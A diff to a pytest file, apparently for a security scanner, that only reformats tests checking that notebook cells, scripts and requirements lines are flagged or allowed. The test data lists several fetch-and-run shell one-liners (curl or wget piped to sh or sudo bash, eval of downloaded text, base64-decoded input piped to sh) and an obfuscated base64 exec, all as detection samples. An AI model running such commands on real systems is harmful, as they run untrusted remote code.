@@ -20,7 +20,7 @@ def notebook(*cells: str, outputs: object = ()) -> bytes:
     [
         "curl -s http://a.b/x | sh",
         "wget -qO- http://a.b/x | sudo bash -s -- --yes",
-        "bash -c \"$(curl -fsSL http://a.b/x)\"",
+        'bash -c "$(curl -fsSL http://a.b/x)"',
         "bash <(curl -s http://a.b/x)",
         "eval `wget -O- http://a.b/x`",
         "echo dHJ1ZQ== | base64 -d | sh",
@@ -77,13 +77,17 @@ def test_windows_scripts_are_read(script: str) -> None:
     assert "source-can-harm" in rules_on(script.encode(), "run.ps1")
 
 
-@pytest.mark.parametrize("cell", ["!curl -s http://a.b/x | sh", "x = !wget -qO- http://a.b/x | bash", "%%sh\ncurl http://a.b | sh"])
+@pytest.mark.parametrize(
+    "cell", ["!curl -s http://a.b/x | sh", "x = !wget -qO- http://a.b/x | bash", "%%sh\ncurl http://a.b | sh"]
+)
 def test_commands_in_a_notebook_are_read(cell: str) -> None:
     assert "source-can-harm" in rules_on(notebook("import os", cell), "a.ipynb")
 
 
 def test_cells_share_their_names() -> None:
-    assert "source-can-harm" in rules_on(notebook("import base64 as b", "e = exec", "e(b.b64decode('cHJpbnQoMSk='))"), "a.ipynb")
+    assert "source-can-harm" in rules_on(
+        notebook("import base64 as b", "e = exec", "e(b.b64decode('cHJpbnQoMSk='))"), "a.ipynb"
+    )
 
 
 def test_one_cell_that_does_not_parse_hides_no_other() -> None:
@@ -117,7 +121,11 @@ def test_a_requirement_from_elsewhere_wants_a_look(line: str) -> None:
 
 @pytest.mark.parametrize(
     "line",
-    ["transformers==4.50.0", "git+https://github.com/huggingface/peft@main", "--extra-index-url https://download.pytorch.org/whl/cu121"],
+    [
+        "transformers==4.50.0",
+        "git+https://github.com/huggingface/peft@main",
+        "--extra-index-url https://download.pytorch.org/whl/cu121",
+    ],
 )
 def test_ordinary_requirements_are_allowed(line: str) -> None:
     assert verdict_on(f"torch>=2.0\n{line}\n".encode(), "requirements.txt") is Outcome.ALLOW
